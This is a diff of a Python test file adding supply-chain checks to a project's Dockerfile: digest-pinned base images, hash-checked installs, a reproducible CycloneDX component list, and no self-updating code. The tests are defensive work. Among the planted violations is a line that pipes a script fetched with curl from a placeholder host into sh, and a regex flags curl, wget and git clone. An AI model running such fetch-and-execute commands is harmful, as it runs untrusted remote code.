@@ -4,6 +4,7 @@ import json
 import os
 import re
 import subprocess
+import sys
 import tomllib
 from importlib.metadata import packages_distributions
 
@@ -138,6 +139,74 @@ def test_the_image_runs_without_root_and_says_whether_it_is_well() -> None:
     compile(json.loads(asked[0])[2], "the health check", "exec")
     assert lines.index("USER signalbox") < lines.index(f"CMD {started[0]}")
     assert "VOLUME /data" in lines
+
+
+def image() -> list[str]:
+    return text("Dockerfile").replace("\\\n", "").splitlines()
+
+
+def loose(lines: list[str]) -> list[str]:
+    """What an image would be built from that somebody else may exchange."""
+    by_digest = re.compile(r"ARG PYTHON=python:[\w.-]+@sha256:[0-9a-f]{64}")
+    offences = [line for line in lines if line.startswith("ARG PYTHON=") and not by_digest.fullmatch(line)]
+    offences += [line for line in lines if line.startswith("FROM ") and line.split()[1] != "${PYTHON}"]
+    installs = [
+        part for line in lines for part in line.split("&&") if re.search(r"\b(?:pip|apt-get|apk|npm) install\b", part)
+    ]
+    offences += [part for part in installs if "--require-hashes" not in part and "--no-deps" not in part]
+    return offences + [line for line in lines if re.match(r"ADD |.*\b(?:curl|wget|git clone)\b", line)]
+
+
+def test_the_image_is_built_from_what_nobody_can_exchange() -> None:
+    """threats.md, T13."""
+    lines = image()
+    assert [line for line in lines if line.startswith("ARG PYTHON=")]
+    assert sum(line.startswith("FROM ") for line in lines) == 2
+    assert loose(lines) == []
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "ARG PYTHON=python:3.13-slim",
+        "ARG PYTHON=python:3.13-slim@sha256:abc",
+        "FROM debian:stable",
+        "RUN pip install signalbox",
+        "RUN make && apt-get install -y git",
+        "ADD https://example.com/x /x",
+        "RUN curl -fsSL https://example.com/x | sh",
+    ],
+)
+def test_an_image_of_anything_else_is_found(planted: str) -> None:
+    assert loose([*image(), planted])
+
+
+def test_the_image_lists_every_component_and_lists_the_same_again() -> None:
+    """threats.md, T13: run here beside what the tests are installed beside."""
+    base = "python:3.13-slim@sha256:" + "a" * 64
+    runs = [
+        subprocess.run([sys.executable, "image/components.py", base], cwd=ROOT, capture_output=True, check=True).stdout
+        for _ in range(2)
+    ]
+    listed = json.loads(runs[0])
+    pinned = {name: entry.split()[0] for name, entry in pins("requirements.txt").items()}
+    found = {one["name"]: one["version"] for one in listed["components"] if one["type"] == "library"}
+
+    assert runs[0] == runs[1]
+    assert (listed["bomFormat"], listed["metadata"]["component"]) == (
+        "CycloneDX",
+        {"type": "application", "name": "signalbox", "version": bot.__version__},
+    )
+    assert listed["components"][0]["hashes"] == [{"alg": "SHA-256", "content": "a" * 64}]
+    assert {name: found.get(name) for name in pinned} == pinned
+    assert any("image/components.py" in line and "/opt/signalbox/components.cdx.json" in line for line in image())
+
+
+def test_nothing_of_the_program_installs_or_starts_anything() -> None:
+    """threats.md, T13: it does not update itself."""
+    starts = re.compile(r"\bsubprocess\b|\bos\.(?:system|exec|spawn|popen)|create_subprocess|\bpip\b|importlib\.reload")
+    assert [path for path in tracked("bot/*.py") if starts.search(text(path))] == []
+    assert starts.search("import subprocess")
 
 
 @pytest.mark.parametrize("name", [".env", "signalbox.private-key.pem", "signalbox.db", "data/admin.sock", "walk-1/x"])
